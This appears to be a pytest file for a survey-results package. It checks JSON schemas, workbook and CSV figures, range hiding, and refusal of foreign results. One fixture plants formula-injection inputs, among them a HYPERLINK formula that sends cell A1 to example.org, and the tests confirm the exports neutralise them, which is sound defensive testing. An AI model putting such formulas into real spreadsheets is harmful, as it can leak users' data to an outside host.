"""Tables that leave the house: the documented form, the figures of the minutes or of the page, and nothing a
spreadsheet would run.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import python_calamine
from jsonschema import Draft202012Validator, ValidationError

from surveys.papers.minutes_record import read_record
from surveys.papers.workbook import minutes_workbook
from surveys.protocol.errors import Malformed
from surveys.protocol.manifest import decode_manifest
from surveys.results.book import Book, open_book
from surveys.results.errors import ForeignResults
from surveys.results.exports import neutral, results_csv
from surveys.results.exports_shown import HIDDEN, Export
from tests.audit.build import a_vote
from tests.minuted import a_record, altered, definition_of, sources
from tests.published import a_definition, the_results

DOCS = Path(__file__).parents[2] / "docs"
FORMULA = '=HYPERLINK("http://example.org/"&A1,"x")'


def schema(name: str) -> Draft202012Validator:
    document = json.loads((DOCS / name).read_text("utf-8"))
    Draft202012Validator.check_schema(document)
    return Draft202012Validator(document)


def sheets(workbook: bytes) -> dict[str, list[list[Any]]]:
    read = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(workbook))
    return {name: read.get_sheet_by_name(name).to_python() for name in read.sheet_names}


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.mark.parametrize("preset", ["local-annual", "nq85-2014", "formal-vote", "grading"])
def test_results_have_the_documented_form(preset: str) -> None:
    schema("results.schema.json").validate(json.loads(sources(preset=preset)["results.json"]))


def test_the_results_of_a_real_count_have_the_documented_form() -> None:
    schema("results.schema.json").validate(json.loads(a_vote().members["results.json"]))


@pytest.mark.parametrize(
    "change",
    [
        lambda contest: contest.pop("outcome"),
        lambda contest: contest.update(extra=1),
        lambda contest: contest.update(returned=-1),
        lambda contest: contest.update(withheld={"vi": "a", "en": "b"}),
        lambda contest: contest["percent"].update(high="66.7"),
        lambda contest: contest["denominator"].update(name="present"),
        lambda contest: contest.update(breakdown=[]),
        lambda contest: contest["levels"].update(high="16"),
    ],
)
def test_results_in_another_form_are_refused_by_the_schema(change: Any) -> None:
    document = json.loads(sources()["results.json"])
    change(document["contests"][0])
    with pytest.raises(ValidationError):
        schema("results.schema.json").validate(document)


def test_the_workbook_holds_the_figures_of_the_minutes() -> None:
    record = a_record()
    read = sheets(minutes_workbook(record, bytes(range(32))))
    assert list(read) == ["Tóm tắt", "Kết quả", "Nhóm kiểm phiếu", "Có mặt", "Diễn biến", "Mã niêm phong"]
    summary = {row[1]: row[2] for row in read["Tóm tắt"]}
    assert [summary[name] for name in ("Summoned", "Present", "Absent")] == [59, 49, 10]
    assert [summary[name] for name in ("Issued", "Returned", "Not returned")] == [47, 45, 2]
    assert summary["Custodian"] == "Văn phòng Khối"
    first, excluded, low, withheld = read["Kết quả"][1:]
    assert first[:4] == [1, "p1", "Nguyễn Văn Đạt", "Bí thư; Giám đốc"]
    assert first[6:16] == [35, 26, 25, 24, 16, 5, 2, 1, 24, 0.6667]
    assert first[16:19] == [0.2083, 0.0833, "Không có hệ quả theo quy định"]
    assert excluded[18].startswith("Đã đưa ra khỏi danh sách")
    assert excluded[20] == "Thông báo nghỉ hưu ngày 02/11"
    assert low[19].startswith("Theo dõi: trên 50 %")
    assert withheld[6:20] == [4, *[""] * 13]
    assert withheld[20].startswith("Ẩn kết quả")
    assert [row[2:] for row in read["Nhóm kiểm phiếu"][1:3]] == [
        ["A1", "Chi bộ Văn phòng", 10, 10, 0, 0, 0],
        ["A2 A3", "Chi bộ Tổ chức biên chế; Chi bộ Công chức viên chức", 14, 6, 5, 2, 1],
    ]
    assert [row[2:] for row in read["Có mặt"][1:]] == [
        [18, 11, 7],
        [14, 13, 1],
        [3, 2, 1],
        [20, 19, 1],
        [4, 4, 0],
    ]
    assert [row[4] for row in read["Diễn biến"][1:]] == ["", "Mất điện", ""]
    hashes = dict(read["Mã niêm phong"])
    assert hashes["Hòm phiếu / Board root"] == record.hashes.board.hex()
    assert hashes["Biên bản PDF / Typeset minutes"] == bytes(range(32)).hex()


def test_the_same_record_gives_the_same_workbook() -> None:
    assert minutes_workbook(a_record(), None) == minutes_workbook(a_record(), None)


def hostile() -> Any:
    definition = definition_of()
    contest = replace(definition.contests[0], name=FORMULA, titles=("+1+1", "@SUM(1)", "-2"))
    return replace(definition, contests=(contest, *definition.contests[1:]), place=FORMULA)


def test_nothing_in_the_workbook_is_a_formula_or_a_link() -> None:
    workbook = minutes_workbook(a_record(hostile()), None)
    with zipfile.ZipFile(io.BytesIO(workbook)) as parts:
        for name in parts.namelist():
            assert b"<f>" not in parts.read(name)
            assert b"<f " not in parts.read(name)
            assert b"<hyperlink" not in parts.read(name)
            assert "externalLink" not in name
    assert sheets(workbook)["Kết quả"][1][2:4] == [FORMULA, "+1+1; @SUM(1); -2"]


def test_nothing_in_a_csv_is_a_formula() -> None:
    record = a_record(hostile())
    for text in (results_csv(record.book), Export(record.book, record.book.entries).csv()):
        assert "'" + FORMULA in {row["name"] for row in cells(text)}
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))):
            assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@"))]
    assert neutral("Nguyễn") == "Nguyễn"


@pytest.mark.skipif(
    shutil.which("soffice") is None,
    reason="LibreOffice is not installed: apt-get install libreoffice-calc-nogui",
)
def test_an_office_program_opens_the_workbook_and_keeps_every_cell(tmp_path: Path) -> None:
    workbook = minutes_workbook(a_record(hostile()), None)
    (tmp_path / "minutes.xlsx").write_bytes(workbook)
    subprocess.run(
        ["soffice", "--headless", "--convert-to", "ods", "--outdir", tmp_path, tmp_path / "minutes.xlsx"],
        env={**os.environ, "HOME": str(tmp_path)},
        capture_output=True,
        timeout=120,
        check=True,
    )
    assert sheets((tmp_path / "minutes.ods").read_bytes()) == sheets(workbook)


def test_the_csv_of_the_minutes_is_exact() -> None:
    rows = cells(results_csv(a_record().book))
    assert [(row["units"], row["high"], row["plain"], row["low"], row["not_marked"]) for row in rows[:3]] == [
        ("", "16", "5", "2", "1"),
        ("A1", "10", "0", "0", "0"),
        ("A2 A3", "6", "5", "2", "1"),
    ]
    assert rows[0]["high_percent"] == "66.67"
    withheld = rows[-1]
    assert withheld["summoned"] == "4"
    assert {withheld[name] for name in ("present", "returned", "high", "low", "n", "outcome")} == {""}
    assert withheld["withheld"].startswith("Ẩn kết quả")


def the_book() -> Book:
    return open_book(*the_results(a_definition()))


def reader() -> Export:
    book = the_book()
    return Export(book, book.entries)


def test_a_readers_export_has_the_documented_form() -> None:
    schema("shown.schema.json").validate(json.loads(reader().json()))
    real = open_book(decode_manifest(a_vote().members["manifest.json"]), a_vote().members["results.json"])
    schema("shown.schema.json").validate(json.loads(Export(real, real.entries).json()))


def test_a_readers_export_shows_ranges_where_the_page_does() -> None:
    """A1 is unanimous: its range stands there; the other group is hidden, as it and the total would tell A1's
    marks.
    """
    document = json.loads(reader().json())
    first = document["contests"][0]["result"]
    assert first["marks"] == {"shown": "exact", "values": {"high": 16, "plain": 5, "low": 2, "not_marked": 1}}
    assert [group["marks"]["shown"] for group in first["groups"]] == ["range", "hidden"]
    assert first["groups"][0]["marks"]["values"]["high"] == "≥ 90 %"
    table = cells(reader().csv())
    assert [row["high"] for row in table[:3]] == ["16", "≥ 90 %", HIDDEN]
    sheet = sheets(reader().xlsx())["Kết quả"]
    assert [row[9] for row in sheet[1:4]] == [16, "≥ 90 %", HIDDEN]


def test_the_exact_export_would_have_told_how_each_voted() -> None:
    exact = cells(results_csv(the_book()))[1]
    assert (exact["units"], exact["returned"], exact["high"]) == ("A1", "10", "10")


def test_a_contest_that_is_not_handed_over_is_not_in_the_export() -> None:
    book = the_book()
    one = Export(book, book.entries[:1])
    for content in (one.json().decode(), one.csv(), str(sheets(one.xlsx()))):
        assert "Nguyễn Văn Đạt" in content
        assert "Trần Thị Hằng" not in content


def test_results_of_another_round_make_no_record() -> None:
    other = sources(replace(definition_of(), survey=bytes(16)))
    with pytest.raises(ForeignResults):
        read_record({**sources(), "results.json": other["results.json"]})


def test_an_attendance_of_other_panels_makes_no_record() -> None:
    short = altered(sources(), "attendance.json", lambda attendance: attendance["panels"].pop())
    with pytest.raises(Malformed, match="not one number for each panel"):
        read_record(short)
